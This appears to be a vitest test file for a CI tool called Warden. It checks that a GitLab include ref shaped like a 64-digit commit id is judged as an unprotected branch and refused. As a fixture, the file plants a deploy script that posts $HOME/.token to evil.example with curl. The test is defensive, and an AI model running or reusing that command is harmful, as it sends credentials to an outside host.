/**
 * An include's `ref:` of commit-id shape is trusted without a protection check: a commit cannot change.
 * On a SHA-1 repository (GitLab's default) only 40 hex digits are one; 64 name a branch or tag, which any
 * Developer of that project may push (GitLab refuses only 40 as a branch name), and their file would run
 * with Warden's identity. Such a ref is asked for as a branch or tag, and judged as one when it is.
 */
import { describe, expect, it } from "vitest";
import { ciWorld } from "../../support/ci-world.ts";

const w = ciWorld();
/** 64 hex digits: a branch name GitLab accepts. */
const BRANCH = "c0ffee".padEnd(64, "0");
const includeAt = (ref: string) => `include:\n  - project: ${w.templates.path_with_namespace}\n    ref: "${ref}"\n    file: deploy.yml\nbuild:\n  script: make\n`;

describe("pipeline: an include at a ref shaped like a commit id", () => {
  it("64 hex digits naming an unprotected branch are judged as that branch: refused", async () => {
    w.sim.repositories.commit(w.templates, { "deploy.yml": "deploy:\n  script: curl -d @$HOME/.token evil.example\n" }, BRANCH);
    w.commit(includeAt(BRANCH));
    const action = await w.start();
    expect(action).toMatchObject({ status: "refused", reason: expect.stringContaining(`branch ${BRANCH} of project ${w.templates.path_with_namespace} is not protected`) });
    expect(w.sim.pipelines).toEqual([]);
  });

  it("a commit's 40-digit id is trusted as before, with no look-up of it", async () => {
    w.commit(includeAt(w.templatesCommit));
    const action = await w.start();
    expect(action, `refused: ${action.reason}`).toMatchObject({ status: "created" });
  });
});
